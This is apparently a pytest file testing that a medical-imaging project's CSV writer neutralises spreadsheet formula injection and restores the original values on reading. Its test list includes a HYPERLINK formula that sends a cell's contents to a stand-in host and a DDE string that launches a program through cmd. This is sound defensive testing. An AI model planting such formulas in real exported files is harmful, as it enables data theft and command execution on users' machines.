"""CSV tables: text that a spreadsheet would run stays text, and comes back as it was."""

from __future__ import annotations

import csv
import io
import json

import pytest

from bonemets.data.tables import csv_bytes, csv_rows, inert, original, read_csv
from bonemets.handlers.mlflow.case_table import Identifiers

FORMULAS = ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\n=1+1", "-"]
PLAIN = ["patient_0001", "", "-0.5", "+3", "-1e-05", "a=b", "O'Neill", "'quoted'", "'", "1-2"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_made_inert_and_come_back(text, tmp_path):
    content = csv_bytes([{"patient": text, "dice": -0.25}])
    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
    assert row == {"patient": f"'{text}", "dice": "-0.25"}
    (tmp_path / "t.csv").write_bytes(content)
    assert read_csv(tmp_path / "t.csv") == csv_rows(content.decode()) == [{"patient": text, "dice": "-0.25"}]


@pytest.mark.parametrize("value", [*PLAIN, -3, -0.5, None])
def test_numbers_and_other_text_stay(value):
    assert inert(value) == value
    if isinstance(value, str):
        assert original(value) == value


def test_a_carriage_return_begins_no_row():
    content = csv_bytes([{"patient": "a\r=1+1"}]).decode()
    assert list(csv.reader(io.StringIO(content, newline=""))) == [["patient"], ["a =1+1"]]


def test_tables_for_the_tracker_stay_inert(tmp_path):
    (tmp_path / "datalist.json").write_text(json.dumps({"name": "x", "training": [], "testing": []}))
    (tmp_path / "t.csv").write_bytes(csv_bytes([{"patient": "=A1", "image": "@x.nii", "dice": 0.5}]))
    for mode, expected in (("plain", ["'=A1", "'@x.nii"]), ("hashed", None)):
        names = Identifiers(tmp_path / "datalist.json", mode)
        (row,) = csv.DictReader(io.StringIO(names.csv_text(tmp_path / "t.csv")))
        assert [row["patient"], row["image"]] == (expected or [names.pseudonym("=A1"), names.pseudonym("@x.nii")])
        assert row["dice"] == "0.5"
